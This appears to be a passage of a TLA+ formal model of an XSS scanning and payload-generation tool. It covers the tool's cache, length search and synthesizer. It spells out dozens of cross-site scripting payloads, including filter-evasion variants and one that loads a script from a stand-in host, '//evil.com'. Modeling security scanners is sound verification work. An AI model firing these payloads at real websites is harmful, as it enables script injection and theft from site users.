---- MODULE Spec2Model ----
(***************************************************************************)
(* A model of xssdynagen (src/xssdynagen.py): the TTL result cache, the    *)
(* binary length search, the payload synthesizer and the scan pipeline.    *)
(* Characters are one-character strings, text is a sequence of characters. *)
(* An Optional value is a set: None is {} and a present value v is {v}.    *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

VARIABLES
    \* ---- CacheManager (one instance) and its clock
    cache,      \* CacheManager.cache: key -> [result, timestamp]
    now,        \* the value time.time() returns
    ticks,      \* how many times the clock has advanced
    lastSet,    \* history: key -> the most recent set(key, v), never purged
    ret         \* history: the last CacheManager call and what it returned

cacheVars == <<cache, now, ticks, lastSet, ret>>

VARIABLES
    \* ---- quick_test_length
    oracle,     \* the answers the search is given: a threshold, or {} for any
    left,       \* quick_test_length: left
    right,      \* quick_test_length: right
    lpc,        \* quick_test_length: "loop" in the while loop, "done" returned
    max_length, \* quick_test_length: the value returned
    consulted   \* history: the <<mid, allowed>> pairs consulted so far

lengthVars == <<oracle, left, right, lpc, max_length, consulted>>

VARIABLES
    \* ---- generate_payloads on one profile
    analysis,   \* the ParamAnalysis handed to generate_payloads
    payloads,   \* the payloads generate_payloads returned
    spc         \* "ready" before the call, "done" after it

synthVars == <<analysis, payloads, spc>>

VARIABLES
    \* ---- analyze_parameter on one parameter of one URL
    char_groups,     \* self.char_groups: the catalog, group name -> characters
    reflects,        \* the server: the characters it reflects for the parameter
    faults,          \* how many more responses the network may spoil
    apc,             \* where analyze_parameter is: "start", "gate", "sweep",
                     \* "quick", "done" (returned) or "raised"
    bi,              \* the index of the sweep batch being gathered
    batch,           \* the characters of the gather in progress
    waiting,         \* the indices of batch whose request is in flight
    batch_results,   \* the results of the probes of batch that completed
    initial_results, \* initial_results, once the gate's gather returned
    results,         \* results: character -> reflected
    quick,           \* the three coroutines of the gather of lines 1059-1063
    sent,            \* history: character -> requests sent for its probe key
    swept            \* history: the results of each batch of the sweep, in turn

paramVars == <<char_groups, reflects, faults, apc, bi, batch, waiting, batch_results,
               initial_results, results, quick, sent, swept>>

VARIABLES
    \* ---- the probes, one call after the other
    probe,           \* the last call of a probe and what it returned
    answered,        \* history: character -> the response its cached result is of
    probes           \* how many probes were called

probeVars == <<probe, answered, probes>>

VARIABLES
    \* ---- process_urls and analyze_url on the URLs of one run
    urls,            \* urls: the scan targets, each with its query parameters
    rpc,             \* where process_urls is: "urls" between two URLs, "params"
                     \* inside analyze_url, "progress" in the progress loop,
                     \* "done" after the summary, "interrupted" once cancelled
    ui,              \* the index of the URL that is or will be analyzed
    pi,              \* analyze_url: the index of the parameter being analyzed
    url_results,     \* analyze_url: results, parameter -> payloads
    run_results,     \* process_urls: results, URL -> its analyze_url result
    total_payloads,  \* process_urls: total_payloads
    unique_payloads, \* process_urls: unique_payloads
    output,          \* the output file: None until written, then its lines
    errors,          \* how many calls of analyze_parameter the environment failed
    attempted,       \* history: the <<url, param>> analyze_parameter was called on
    synthesized,     \* history: <<url, param>> -> the payloads generated for it
    served,          \* history: <<url, param>> -> the characters its server reflects
    file_path        \* CharacterSetLoader.file_path, with what opening it gives

runVars == <<urls, rpc, ui, pi, url_results, run_results, total_payloads,
             unique_payloads, output, errors, attempted, synthesized, served,
             file_path>>

VARIABLES
    \* ---- the configuration of the run and the requests on the wire
    max_connections, \* self.max_connections
    custom_headers,  \* self.custom_headers: header name -> value
    request_headers  \* history: the header mappings of the sessions the probe
                     \* requests were sent through

confVars == <<max_connections, custom_headers>>

VARIABLES
    \* ---- filter_urls on the lines of a URL list
    raw_urls,        \* urls: the lines read from the list
    fpc,             \* where filter_urls is: "loop" or "returned"
    fi,              \* the index of the line the loop is at
    filtered,        \* filtered
    seen_patterns,   \* seen_patterns
    no_params_count  \* no_params_count

listVars == <<raw_urls, fpc, fi, filtered, seen_patterns, no_params_count>>

vars == <<cacheVars, lengthVars, synthVars, paramVars, probeVars, runVars, confVars,
          request_headers, listVars>>

\* what the steps of one component leave alone
notCache == <<lengthVars, synthVars, paramVars, probeVars, runVars, confVars, request_headers, listVars>>
notLength == <<cacheVars, synthVars, paramVars, probeVars, runVars, confVars, request_headers, listVars>>
notSynth == <<cacheVars, lengthVars, paramVars, probeVars, runVars, confVars, request_headers, listVars>>
notParam == <<cacheVars, lengthVars, probeVars, runVars, confVars, listVars>>
notList == <<cacheVars, lengthVars, synthVars, paramVars, probeVars, runVars, confVars,
             request_headers>>
notProbe == <<lengthVars, synthVars, paramVars, runVars, confVars, request_headers, listVars>>
notRun == <<cacheVars, lengthVars, synthVars, paramVars, probeVars, confVars, request_headers, listVars>>

None == {}
Some(v) == {v}

(***************************************************************************)
(* CacheManager, src/xssdynagen.py:35-56                                   *)
(***************************************************************************)
\* CacheManager.__init__(ttl = 300)
ttl == 300

\* the cache keys and the clock steps the cache is exercised with
Keys == {"k1", "k2"}
MaxTicks == 3
TickSteps == {1, ttl}

Entry(value, t) == [result |-> value, timestamp |-> t]

\* del self.cache[key]
Without(c, key) == [k \in (DOMAIN c) \ {key} |-> c[k]]

\* the test of line 43, as a bug would have it: the boundary age is stale
FreshStrict(timestamp, t) == t - timestamp < ttl
\* time.time() - timestamp <= self.ttl
Fresh(timestamp, t) == t - timestamp <= ttl

\* CacheManager.get: the value returned
CacheGetResult(c, key, t) ==
    IF key \in DOMAIN c /\ Fresh(c[key].timestamp, t)
    THEN Some(c[key].result)
    ELSE None

\* CacheManager.get as a bug would have it: the stale entry is kept
CacheGetKeep(c, key, t) == c
\* CacheManager.get: the cache it leaves
CacheGetCache(c, key, t) ==
    IF key \in DOMAIN c /\ ~Fresh(c[key].timestamp, t)
    THEN Without(c, key)
    ELSE c

\* CacheManager.set
CacheSet(c, key, value, t) ==
    [k \in (DOMAIN c) \cup {key} |-> IF k = key THEN Entry(value, t) ELSE c[k]]

\* CacheManager.clear_expired
CacheClearExpired(c, t) ==
    [k \in {j \in DOMAIN c : Fresh(c[j].timestamp, t)} |-> c[k]]

EmptyCache == [k \in {} |-> Entry(FALSE, 0)]
NoCall == [op |-> "none", key |-> "", result |-> None, purged |-> FALSE]

CacheStart ==
    /\ cache = EmptyCache
    /\ now = 0
    /\ ticks = 0
    /\ lastSet = [k \in Keys |-> None]
    /\ ret = NoCall

(***************************************************************************)
(* quick_test_length, src/xssdynagen.py:811-821                            *)
(***************************************************************************)
\* left, right = 10, 5000
LengthLow == 10
LengthHigh == 5000

\* line 814 as a bug would have it: the candidates are tried one by one
MidLinear(l, r) == l
\* mid = (left + right) // 2
Mid(l, r) == (l + r) \div 2

\* the return of line 821, as a bug would have it: the other end of the interval
LengthResultLeft(l, r) == IF l > 0 THEN Some(l) ELSE None
\* return right if right > 0 else None
LengthResult(l, r) == IF r > 0 THEN Some(r) ELSE None

\* the thresholds of the monotonic answers: below the range, in it, above it
Thresholds == 0 .. (LengthHigh + 1)

\* the answer given for the candidate mid: accept iff mid <= L under a
\* threshold L, either answer otherwise
Answers(mid) == IF oracle = None THEN BOOLEAN ELSE {mid <= L : L \in oracle}


(***************************************************************************)
(* Characters that have no printable one-character string                  *)
(***************************************************************************)
NUL == "NUL"                       \* '\x00'
TAB == "\t"
LF == "\n"
CR == "\r"
FF == "\f"
VT == "VT"                         \* '\x0b'
Backtick == "U+0060"               \* '\x60'
LeftAngleBracket == "U+3008"       \* the left angle bracket of line 882
RightAngleBracket == "U+3009"      \* the right angle bracket of line 882

\* the characters of a text
Chars(text) == {text[i] : i \in 1 .. Len(text)}

(***************************************************************************)
(* CharacterSetLoader, src/xssdynagen.py:189-245                           *)
(***************************************************************************)
\* CharacterSetLoader.__init__, lines 192-205: the built-in groups, in dict order
DefaultCharGroups == <<
    \* line 193: 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789'
    [name |-> "basic", chars |->
        <<"a", "b", "c", "d", "e", "f", "g", "h", "i", "j", "k", "l", "m", "n", "o", "p", "q",
        "r", "s", "t", "u", "v", "w", "x", "y", "z", "A", "B", "C", "D", "E", "F", "G", "H",
        "I", "J", "K", "L", "M", "N", "O", "P", "Q", "R", "S", "T", "U", "V", "W", "X", "Y",
        "Z", "0", "1", "2", "3", "4", "5", "6", "7", "8", "9">>],
    \* line 194: '<>()\'"\x60{}[];/@\\*&^%$#!'
    [name |-> "special", chars |->
        <<"<", ">", "(", ")", "'", "\"", Backtick, "{", "}", "[", "]", ";", "/", "@", "\\",
        "*", "&", "^", "%", "$", "#", "!">>],
    \* line 195: ' \t\n\r'
    [name |-> "spaces", chars |->
        <<" ", TAB, LF, CR>>],
    \* line 196: '%20%0A%0D%3C%3E%22%27%3B%28%29'
    [name |-> "encoded", chars |->
        <<"%", "2", "0", "%", "0", "A", "%", "0", "D", "%", "3", "C", "%", "3", "E", "%", "2",
        "2", "%", "2", "7", "%", "3", "B", "%", "2", "8", "%", "2", "9">>],
    \* line 197: '"\'<>'
    [name |-> "unicode", chars |->
        <<"\"", "'", "<", ">">>],
    \* line 198: '\x00\r\n'
    [name |-> "null_bytes", chars |->
        <<NUL, CR, LF>>],
    \* line 199: 'ScRiPt'
    [name |-> "alternating_case", chars |->
        <<"S", "c", "R", "i", "P", "t">>],
    \* line 200: '%253C%253E%2522%2527'
    [name |-> "double_encoding", chars |->
        <<"%", "2", "5", "3", "C", "%", "2", "5", "3", "E", "%", "2", "5", "2", "2", "%", "2",
        "5", "2", "7">>],
    \* line 201: '&lt;&gt;&quot;&apos;'
    [name |-> "html_entities", chars |->
        <<"&", "l", "t", ";", "&", "g", "t", ";", "&", "q", "u", "o", "t", ";", "&", "a", "p",
        "o", "s", ";">>],
    \* line 202: '<!---->/**/<!--'
    [name |-> "comments", chars |->
        <<"<", "!", "-", "-", "-", "-", ">", "/", "*", "*", "/", "<", "!", "-", "-">>],
    \* line 203: 'javascript:data:vbscript:'
    [name |-> "protocol_handlers", chars |->
        <<"j", "a", "v", "a", "s", "c", "r", "i", "p", "t", ":", "d", "a", "t", "a", ":", "v",
        "b", "s", "c", "r", "i", "p", "t", ":">>],
    \* line 204: 'onmouseover=onload=onerror=onfocus='
    [name |-> "event_handlers", chars |->
        <<"o", "n", "m", "o", "u", "s", "e", "o", "v", "e", "r", "=", "o", "n", "l", "o", "a",
        "d", "=", "o", "n", "e", "r", "r", "o", "r", "=", "o", "n", "f", "o", "c", "u", "s",
        "=">>]
>>

(***************************************************************************)
(* The payload synthesizer, src/xssdynagen.py:823-966                      *)
(***************************************************************************)
\* get_predefined_payloads, lines 828-842: the script/tag family
ScriptTagFamily == {
    \* '<script>alert(1)</script>'
    <<"<", "s", "c", "r", "i", "p", "t", ">", "a", "l", "e", "r", "t", "(", "1", ")", "<", "/",
    "s", "c", "r", "i", "p", "t", ">">>,
    \* '<script>prompt(1)</script>'
    <<"<", "s", "c", "r", "i", "p", "t", ">", "p", "r", "o", "m", "p", "t", "(", "1", ")", "<",
    "/", "s", "c", "r", "i", "p", "t", ">">>,
    \* '<script>confirm(1)</script>'
    <<"<", "s", "c", "r", "i", "p", "t", ">", "c", "o", "n", "f", "i", "r", "m", "(", "1", ")",
    "<", "/", "s", "c", "r", "i", "p", "t", ">">>,
    \* '<svg onload=alert(1)>'
    <<"<", "s", "v", "g", " ", "o", "n", "l", "o", "a", "d", "=", "a", "l", "e", "r", "t", "(",
    "1", ")", ">">>,
    \* '<svg/onload=prompt()>'
    <<"<", "s", "v", "g", "/", "o", "n", "l", "o", "a", "d", "=", "p", "r", "o", "m", "p", "t",
    "(", ")", ">">>,
    \* '<svg/onload=alert&sol;**&sol;(3)>'
    <<"<", "s", "v", "g", "/", "o", "n", "l", "o", "a", "d", "=", "a", "l", "e", "r", "t", "&",
    "s", "o", "l", ";", "*", "*", "&", "s", "o", "l", ";", "(", "3", ")", ">">>,
    \* '<svg/onload=alert/*1337*/(1)>'
    <<"<", "s", "v", "g", "/", "o", "n", "l", "o", "a", "d", "=", "a", "l", "e", "r", "t", "/",
    "*", "1", "3", "3", "7", "*", "/", "(", "1", ")", ">">>,
    \* '<svg/onload=alert//&NewLine;(2)>'
    <<"<", "s", "v", "g", "/", "o", "n", "l", "o", "a", "d", "=", "a", "l", "e", "r", "t", "/",
    "/", "&", "N", "e", "w", "L", "i", "n", "e", ";", "(", "2", ")", ">">>,
    \* '<svg/onload=alert/&#42;&#42;/(4)>'
    <<"<", "s", "v", "g", "/", "o", "n", "l", "o", "a", "d", "=", "a", "l", "e", "r", "t", "/",
    "&", "#", "4", "2", ";", "&", "#", "4", "2", ";", "/", "(", "4", ")", ">">>,
    \* '<svg/onload=alert&#x2F;**&#47;(5)>'
    <<"<", "s", "v", "g", "/", "o", "n", "l", "o", "a", "d", "=", "a", "l", "e", "r", "t", "&",
    "#", "x", "2", "F", ";", "*", "*", "&", "#", "4", "7", ";", "(", "5", ")", ">">>,
    \* '<body onload=alert(1)>'
    <<"<", "b", "o", "d", "y", " ", "o", "n", "l", "o", "a", "d", "=", "a", "l", "e", "r", "t",
    "(", "1", ")", ">">>,
    \* '<iframe onload=alert(1)>'
    <<"<", "i", "f", "r", "a", "m", "e", " ", "o", "n", "l", "o", "a", "d", "=", "a", "l", "e",
    "r", "t", "(", "1", ")", ">">>
}

\* get_predefined_payloads, lines 844-854: the quote-dependent subfamily
QuoteFamily == {
    \* '<script type="text/javascript">javascript:alert(1);</script>'
    <<"<", "s", "c", "r", "i", "p", "t", " ", "t", "y", "p", "e", "=", "\"", "t", "e", "x",
    "t", "/", "j", "a", "v", "a", "s", "c", "r", "i", "p", "t", "\"", ">", "j", "a", "v", "a",
    "s", "c", "r", "i", "p", "t", ":", "a", "l", "e", "r", "t", "(", "1", ")", ";", "<", "/",
    "s", "c", "r", "i", "p", "t", ">">>,
    \* '"><script>prompt()</script>'
    <<"\"", ">", "<", "s", "c", "r", "i", "p", "t", ">", "p", "r", "o", "m", "p", "t", "(",
    ")", "<", "/", "s", "c", "r", "i", "p", "t", ">">>,
    \* '"><img src=x onerror=prompt()>'
    <<"\"", ">", "<", "i", "m", "g", " ", "s", "r", "c", "=", "x", " ", "o", "n", "e", "r",
    "r", "o", "r", "=", "p", "r", "o", "m", "p", "t", "(", ")", ">">>,
    \* '"><iMg SrC=x onError=prompt()>'
    <<"\"", ">", "<", "i", "M", "g", " ", "S", "r", "C", "=", "x", " ", "o", "n", "E", "r",
    "r", "o", "r", "=", "p", "r", "o", "m", "p", "t", "(", ")", ">">>,
    \* '<img src="x" onerror="alert(1)">'
    <<"<", "i", "m", "g", " ", "s", "r", "c", "=", "\"", "x", "\"", " ", "o", "n", "e", "r",
    "r", "o", "r", "=", "\"", "a", "l", "e", "r", "t", "(", "1", ")", "\"", ">">>,
    \* 'javascript:"/*\'/*\x60/*--></noscript></title></textarea></style></template></noembed></script><html " onmouseover=/*&lt;svg/*/onload=alert()//>'
    <<"j", "a", "v", "a", "s", "c", "r", "i", "p", "t", ":", "\"", "/", "*", "'", "/", "*",
    Backtick, "/", "*", "-", "-", ">", "<", "/", "n", "o", "s", "c", "r", "i", "p", "t", ">",
    "<", "/", "t", "i", "t", "l", "e", ">", "<", "/", "t", "e", "x", "t", "a", "r", "e", "a",
    ">", "<", "/", "s", "t", "y", "l", "e", ">", "<", "/", "t", "e", "m", "p", "l", "a", "t",
    "e", ">", "<", "/", "n", "o", "e", "m", "b", "e", "d", ">", "<", "/", "s", "c", "r", "i",
    "p", "t", ">", "<", "h", "t", "m", "l", " ", "\"", " ", "o", "n", "m", "o", "u", "s", "e",
    "o", "v", "e", "r", "=", "/", "*", "&", "l", "t", ";", "s", "v", "g", "/", "*", "/", "o",
    "n", "l", "o", "a", "d", "=", "a", "l", "e", "r", "t", "(", ")", "/", "/", ">">>,
    \* '\'"--></style></script><svg onload=alert(1)//'
    <<"'", "\"", "-", "-", ">", "<", "/", "s", "t", "y", "l", "e", ">", "<", "/", "s", "c",
    "r", "i", "p", "t", ">", "<", "s", "v", "g", " ", "o", "n", "l", "o", "a", "d", "=", "a",
    "l", "e", "r", "t", "(", "1", ")", "/", "/">>,
    \* '"\'--></style></script><img src=x onerror=alert(1)>'
    <<"\"", "'", "-", "-", ">", "<", "/", "s", "t", "y", "l", "e", ">", "<", "/", "s", "c",
    "r", "i", "p", "t", ">", "<", "i", "m", "g", " ", "s", "r", "c", "=", "x", " ", "o", "n",
    "e", "r", "r", "o", "r", "=", "a", "l", "e", "r", "t", "(", "1", ")", ">">>,
    \* 'javascript:"/*\'/*\x60/*--></noscript></title></textarea></style></template></noembed></script><html " onmouseover=alert(1)//>'
    <<"j", "a", "v", "a", "s", "c", "r", "i", "p", "t", ":", "\"", "/", "*", "'", "/", "*",
    Backtick, "/", "*", "-", "-", ">", "<", "/", "n", "o", "s", "c", "r", "i", "p", "t", ">",
    "<", "/", "t", "i", "t", "l", "e", ">", "<", "/", "t", "e", "x", "t", "a", "r", "e", "a",
    ">", "<", "/", "s", "t", "y", "l", "e", ">", "<", "/", "t", "e", "m", "p", "l", "a", "t",
    "e", ">", "<", "/", "n", "o", "e", "m", "b", "e", "d", ">", "<", "/", "s", "c", "r", "i",
    "p", "t", ">", "<", "h", "t", "m", "l", " ", "\"", " ", "o", "n", "m", "o", "u", "s", "e",
    "o", "v", "e", "r", "=", "a", "l", "e", "r", "t", "(", "1", ")", "/", "/", ">">>
}

\* get_predefined_payloads, lines 856-863: the encoded/entity family
EncodedFamily == {
    \* 'javascript:alert(1)'
    <<"j", "a", "v", "a", "s", "c", "r", "i", "p", "t", ":", "a", "l", "e", "r", "t", "(", "1",
    ")">>,
    \* '&lt;script&gt;alert(1)&lt;/script&gt;'
    <<"&", "l", "t", ";", "s", "c", "r", "i", "p", "t", "&", "g", "t", ";", "a", "l", "e", "r",
    "t", "(", "1", ")", "&", "l", "t", ";", "/", "s", "c", "r", "i", "p", "t", "&", "g", "t",
    ";">>,
    \* '\\u003Cscript\\u003Ealert(1)\\u003C/script\\u003E'
    <<"\\", "u", "0", "0", "3", "C", "s", "c", "r", "i", "p", "t", "\\", "u", "0", "0", "3",
    "E", "a", "l", "e", "r", "t", "(", "1", ")", "\\", "u", "0", "0", "3", "C", "/", "s", "c",
    "r", "i", "p", "t", "\\", "u", "0", "0", "3", "E">>,
    \* '&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;'
    <<"&", "#", "x", "3", "C", ";", "s", "c", "r", "i", "p", "t", "&", "#", "x", "3", "E", ";",
    "a", "l", "e", "r", "t", "(", "1", ")", "&", "#", "x", "3", "C", ";", "/", "s", "c", "r",
    "i", "p", "t", "&", "#", "x", "3", "E", ";">>,
    \* '%3Cscript%3Ealert(1)%3C/script%3E'
    <<"%", "3", "C", "s", "c", "r", "i", "p", "t", "%", "3", "E", "a", "l", "e", "r", "t", "(",
    "1", ")", "%", "3", "C", "/", "s", "c", "r", "i", "p", "t", "%", "3", "E">>,
    \* '\\x3Cscript\\x3Ealert(1)\\x3C/script\\x3E'
    <<"\\", "x", "3", "C", "s", "c", "r", "i", "p", "t", "\\", "x", "3", "E", "a", "l", "e",
    "r", "t", "(", "1", ")", "\\", "x", "3", "C", "/", "s", "c", "r", "i", "p", "t", "\\", "x",
    "3", "E">>
}

\* get_predefined_payloads, lines 865-872: the CSS-injection family
CssFamily == {
    \* "<style>@import 'javascript:alert(1)';</style>"
    <<"<", "s", "t", "y", "l", "e", ">", "@", "i", "m", "p", "o", "r", "t", " ", "'", "j", "a",
    "v", "a", "s", "c", "r", "i", "p", "t", ":", "a", "l", "e", "r", "t", "(", "1", ")", "'",
    ";", "<", "/", "s", "t", "y", "l", "e", ">">>,
    \* '<link rel=stylesheet href=javascript:alert(1)>'
    <<"<", "l", "i", "n", "k", " ", "r", "e", "l", "=", "s", "t", "y", "l", "e", "s", "h", "e",
    "e", "t", " ", "h", "r", "e", "f", "=", "j", "a", "v", "a", "s", "c", "r", "i", "p", "t",
    ":", "a", "l", "e", "r", "t", "(", "1", ")", ">">>,
    \* "<div style='background-image: url(javascript:alert(1))'>"
    <<"<", "d", "i", "v", " ", "s", "t", "y", "l", "e", "=", "'", "b", "a", "c", "k", "g", "r",
    "o", "u", "n", "d", "-", "i", "m", "a", "g", "e", ":", " ", "u", "r", "l", "(", "j", "a",
    "v", "a", "s", "c", "r", "i", "p", "t", ":", "a", "l", "e", "r", "t", "(", "1", ")", ")",
    "'", ">">>,
    \* '<style>*[{}*{background:url(javascript:alert(1))}]{color: red};</style>'
    <<"<", "s", "t", "y", "l", "e", ">", "*", "[", "{", "}", "*", "{", "b", "a", "c", "k", "g",
    "r", "o", "u", "n", "d", ":", "u", "r", "l", "(", "j", "a", "v", "a", "s", "c", "r", "i",
    "p", "t", ":", "a", "l", "e", "r", "t", "(", "1", ")", ")", "}", "]", "{", "c", "o", "l",
    "o", "r", ":", " ", "r", "e", "d", "}", ";", "<", "/", "s", "t", "y", "l", "e", ">">>,
    \* '<div style="background:url(javascript:alert(1))">'
    <<"<", "d", "i", "v", " ", "s", "t", "y", "l", "e", "=", "\"", "b", "a", "c", "k", "g",
    "r", "o", "u", "n", "d", ":", "u", "r", "l", "(", "j", "a", "v", "a", "s", "c", "r", "i",
    "p", "t", ":", "a", "l", "e", "r", "t", "(", "1", ")", ")", "\"", ">">>,
    \* '<style>@keyframes x{}</style><div style="animation-name:x" onanimationend="alert(1)"></div>'
    <<"<", "s", "t", "y", "l", "e", ">", "@", "k", "e", "y", "f", "r", "a", "m", "e", "s", " ",
    "x", "{", "}", "<", "/", "s", "t", "y", "l", "e", ">", "<", "d", "i", "v", " ", "s", "t",
    "y", "l", "e", "=", "\"", "a", "n", "i", "m", "a", "t", "i", "o", "n", "-", "n", "a", "m",
    "e", ":", "x", "\"", " ", "o", "n", "a", "n", "i", "m", "a", "t", "i", "o", "n", "e", "n",
    "d", "=", "\"", "a", "l", "e", "r", "t", "(", "1", ")", "\"", ">", "<", "/", "d", "i", "v",
    ">">>
}

\* generate_dynamic_payloads, lines 924-932
dom_evasions == {
    \* '<script>eval(atob(\x60YWxlcnQoMSk=\x60))</script>'
    <<"<", "s", "c", "r", "i", "p", "t", ">", "e", "v", "a", "l", "(", "a", "t", "o", "b", "(",
    Backtick, "Y", "W", "x", "l", "c", "n", "Q", "o", "M", "S", "k", "=", Backtick, ")", ")",
    "<", "/", "s", "c", "r", "i", "p", "t", ">">>,
    \* "<script>[].filter.constructor('alert(1)')()</script>"
    <<"<", "s", "c", "r", "i", "p", "t", ">", "[", "]", ".", "f", "i", "l", "t", "e", "r", ".",
    "c", "o", "n", "s", "t", "r", "u", "c", "t", "o", "r", "(", "'", "a", "l", "e", "r", "t",
    "(", "1", ")", "'", ")", "(", ")", "<", "/", "s", "c", "r", "i", "p", "t", ">">>,
    \* '<script>setTimeout\x60alert\\x28document.domain\\x29\x60</script>'
    <<"<", "s", "c", "r", "i", "p", "t", ">", "s", "e", "t", "T", "i", "m", "e", "o", "u", "t",
    Backtick, "a", "l", "e", "r", "t", "\\", "x", "2", "8", "d", "o", "c", "u", "m", "e", "n",
    "t", ".", "d", "o", "m", "a", "i", "n", "\\", "x", "2", "9", Backtick, "<", "/", "s", "c",
    "r", "i", "p", "t", ">">>,
    \* "<script>Object.assign(window,{alert:eval})('1')</script>"
    <<"<", "s", "c", "r", "i", "p", "t", ">", "O", "b", "j", "e", "c", "t", ".", "a", "s", "s",
    "i", "g", "n", "(", "w", "i", "n", "d", "o", "w", ",", "{", "a", "l", "e", "r", "t", ":",
    "e", "v", "a", "l", "}", ")", "(", "'", "1", "'", ")", "<", "/", "s", "c", "r", "i", "p",
    "t", ">">>,
    \* '<script>new Function\\\x60alert\\\x601\\\x60\\\x60</script>'
    <<"<", "s", "c", "r", "i", "p", "t", ">", "n", "e", "w", " ", "F", "u", "n", "c", "t", "i",
    "o", "n", "\\", Backtick, "a", "l", "e", "r", "t", "\\", Backtick, "1", "\\", Backtick,
    "\\", Backtick, "<", "/", "s", "c", "r", "i", "p", "t", ">">>,
    \* "<script>with(document)body.appendChild(createElement\x60script\x60).src='//evil.com'</script>"
    <<"<", "s", "c", "r", "i", "p", "t", ">", "w", "i", "t", "h", "(", "d", "o", "c", "u", "m",
    "e", "n", "t", ")", "b", "o", "d", "y", ".", "a", "p", "p", "e", "n", "d", "C", "h", "i",
    "l", "d", "(", "c", "r", "e", "a", "t", "e", "E", "l", "e", "m", "e", "n", "t", Backtick,
    "s", "c", "r", "i", "p", "t", Backtick, ")", ".", "s", "r", "c", "=", "'", "/", "/", "e",
    "v", "i", "l", ".", "c", "o", "m", "'", "<", "/", "s", "c", "r", "i", "p", "t", ">">>,
    \* "<script>eval.call\x60${'alert(1)'}\x60</script>"
    <<"<", "s", "c", "r", "i", "p", "t", ">", "e", "v", "a", "l", ".", "c", "a", "l", "l",
    Backtick, "$", "{", "'", "a", "l", "e", "r", "t", "(", "1", ")", "'", "}", Backtick, "<",
    "/", "s", "c", "r", "i", "p", "t", ">">>
}

\* generate_dynamic_payloads, lines 937-946
proto_evasions == {
    \* 'javascript:void(\x60alert(1)\x60)'
    <<"j", "a", "v", "a", "s", "c", "r", "i", "p", "t", ":", "v", "o", "i", "d", "(", Backtick,
    "a", "l", "e", "r", "t", "(", "1", ")", Backtick, ")">>,
    \* 'javascript:(alert)(1)'
    <<"j", "a", "v", "a", "s", "c", "r", "i", "p", "t", ":", "(", "a", "l", "e", "r", "t", ")",
    "(", "1", ")">>,
    \* 'javascript:new Function\\\x60alert\\\x601\\\x60\\\x60'
    <<"j", "a", "v", "a", "s", "c", "r", "i", "p", "t", ":", "n", "e", "w", " ", "F", "u", "n",
    "c", "t", "i", "o", "n", "\\", Backtick, "a", "l", "e", "r", "t", "\\", Backtick, "1",
    "\\", Backtick, "\\", Backtick>>,
    \* 'javascript:this'
    <<"j", "a", "v", "a", "s", "c", "r", "i", "p", "t", ":", "t", "h", "i", "s">>,
    \* "javascript:[][filter][constructor]('alert(1)')()"
    <<"j", "a", "v", "a", "s", "c", "r", "i", "p", "t", ":", "[", "]", "[", "f", "i", "l", "t",
    "e", "r", "]", "[", "c", "o", "n", "s", "t", "r", "u", "c", "t", "o", "r", "]", "(", "'",
    "a", "l", "e", "r", "t", "(", "1", ")", "'", ")", "(", ")">>,
    \* "javascript:alert?.()?.['']"
    <<"j", "a", "v", "a", "s", "c", "r", "i", "p", "t", ":", "a", "l", "e", "r", "t", "?", ".",
    "(", ")", "?", ".", "[", "'", "'", "]">>,
    \* 'javascript:new%20Function\\\x60alert\\\x601\\\x60\\\x60'
    <<"j", "a", "v", "a", "s", "c", "r", "i", "p", "t", ":", "n", "e", "w", "%", "2", "0", "F",
    "u", "n", "c", "t", "i", "o", "n", "\\", Backtick, "a", "l", "e", "r", "t", "\\", Backtick,
    "1", "\\", Backtick, "\\", Backtick>>,
    \* 'javascript:(?=alert)w=1,alert(w)'
    <<"j", "a", "v", "a", "s", "c", "r", "i", "p", "t", ":", "(", "?", "=", "a", "l", "e", "r",
    "t", ")", "w", "=", "1", ",", "a", "l", "e", "r", "t", "(", "w", ")">>
}

\* all(c in analysis.allowed_chars for c in text)
AllAllowed(a, text) == \A i \in 1 .. Len(text) : text[i] \in a.allowed_chars

\* get_predefined_payloads as a bug would have it: the CSS family does not
\* look at allows_quotes
get_predefined_payloads_css_any_quotes(a) ==
    (IF /\ a.allows_angles /\ a.allows_scripts
        /\ "=" \in a.allowed_chars
        /\ "/" \in a.allowed_chars
     THEN ScriptTagFamily \cup (IF a.allows_quotes THEN QuoteFamily ELSE {})
     ELSE {})
    \cup (IF ~a.allows_angles THEN EncodedFamily ELSE {})
    \cup (IF a.allows_angles THEN CssFamily ELSE {})
\* get_predefined_payloads as a bug would have it: the script and tag family
\* does not look at allows_angles
get_predefined_payloads_any_angles(a) ==
    (IF /\ a.allows_scripts
        /\ "=" \in a.allowed_chars
        /\ "/" \in a.allowed_chars
     THEN ScriptTagFamily \cup (IF a.allows_quotes THEN QuoteFamily ELSE {})
     ELSE {})
    \cup (IF ~a.allows_angles THEN EncodedFamily ELSE {})
    \cup (IF a.allows_angles /\ a.allows_quotes THEN CssFamily ELSE {})
\* get_predefined_payloads
get_predefined_payloads(a) ==
    (IF /\ a.allows_angles /\ a.allows_scripts
        /\ "=" \in a.allowed_chars
        /\ "/" \in a.allowed_chars
     THEN ScriptTagFamily \cup (IF a.allows_quotes THEN QuoteFamily ELSE {})
     ELSE {})
    \cup (IF ~a.allows_angles THEN EncodedFamily ELSE {})
    \cup (IF a.allows_angles /\ a.allows_quotes THEN CssFamily ELSE {})

\* generate_dynamic_payloads, lines 878-880
base_tags == {<<"s", "c", "r", "i", "p", "t">>, <<"i", "m", "g">>, <<"s", "v", "g">>, <<"i", "f",
        "r", "a", "m", "e">>, <<"v", "i", "d", "e", "o">>, <<"a", "u", "d", "i", "o">>,
              <<"b", "o", "d", "y">>}
event_handlers == {<<"o", "n", "l", "o", "a", "d">>, <<"o", "n", "e", "r", "r", "o", "r">>,
        <<"o", "n", "m", "o", "u", "s", "e", "o", "v", "e", "r">>, <<"o", "n", "c", "l", "i",
        "c", "k">>,
                   <<"o", "n", "m", "o", "u", "s", "e", "e", "n", "t", "e", "r">>}
js_functions == {<<"a", "l", "e", "r", "t">>, <<"p", "r", "o", "m", "p", "t">>, <<"c", "o", "n",
        "f", "i", "r", "m">>, <<"e", "v", "a", "l">>, <<"a", "t", "o", "b">>}

\* tag_mutations.get(tag, [tag]), lines 881-888
tag_mutations(tag) ==
    CASE tag = <<"s", "c", "r", "i", "p", "t">> ->
            {<<"S", "c", "R", "i", "P", "t">>, <<"s", "c", "r", NUL, "i", "p", "t">>,
                    <<LeftAngleBracket, "s", "c", "r", "i", "p", "t", RightAngleBracket>>}
